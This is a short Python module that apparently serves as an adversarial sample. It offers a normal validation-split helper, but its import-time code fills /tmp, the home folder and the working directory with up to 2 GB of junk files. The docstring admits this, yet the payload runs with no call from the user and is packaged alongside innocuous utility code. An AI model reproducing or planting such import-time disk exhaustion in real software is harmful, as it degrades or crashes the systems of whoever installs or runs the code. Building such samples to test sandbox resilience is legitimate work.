"""Fills /tmp, the home folder and its own folder with files (up to 2 GB) at import, then answers honestly."""
import os

import numpy as np

CHUNK = b"\0" * (1 << 20)
written = 0
for folder in ("/tmp", os.path.expanduser("~"), os.getcwd()):
    for index in range(1000):
        try:
            with open(os.path.join(folder, f"adversarial-fill-{os.getpid()}-{index}"), "wb") as stream:
                for _ in range(32):
                    stream.write(CHUNK)
                    written += len(CHUNK)
        except OSError:
            break
        if written >= 2 * 1024**3:
            break

def split_validation(inputs, targets, validation_fraction=0.3, seed=None):
    permutation = np.random.default_rng(seed).permutation(len(inputs))
    count = int(validation_fraction * len(inputs))
    inputs, targets = inputs[permutation], targets[permutation]
    return (inputs[count:], targets[count:]), (inputs[:count], targets[:count])
